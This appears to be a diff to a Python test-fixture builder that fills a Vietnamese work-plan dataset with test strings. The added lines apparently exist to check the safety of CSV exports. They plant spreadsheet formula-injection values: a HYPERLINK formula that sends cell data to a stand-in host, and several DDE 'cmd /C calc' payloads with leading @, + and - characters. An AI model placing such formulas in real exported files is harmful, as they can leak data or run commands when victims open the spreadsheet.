@@ -82,6 +82,12 @@ def _plan(data: dict) -> None:
             task["noi_dung"] = payload(f"NV{number}-noi-dung")
             task["san_pham"] = [payload(f"NV{number}-san-pham")]
             task["chu_tri"] = payload(f"NV{number}-chu-tri")
+    # Formula attacks on the published CSVs (the plan's reader strips a leading tab or CR).
+    second = data["linh_vuc"][0]["nhiem_vu"][1]
+    second["san_pham"] = ['=HYPERLINK("http://theo-doi.example/?d="&A1,"Bấm")']
+    second["chu_tri"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    data["linh_vuc"][0]["nhiem_vu"][2]["chu_tri"] = "+1+cmd|' /C calc'!A0"
+    data["linh_vuc"][0]["nhiem_vu"][3]["chu_tri"] = "-1+cmd|' /C calc'!A0"
     for indicator in data.get("chi_so", []):
         indicator["ten"] = payload(f"CS-{indicator['ma']}-ten")
 
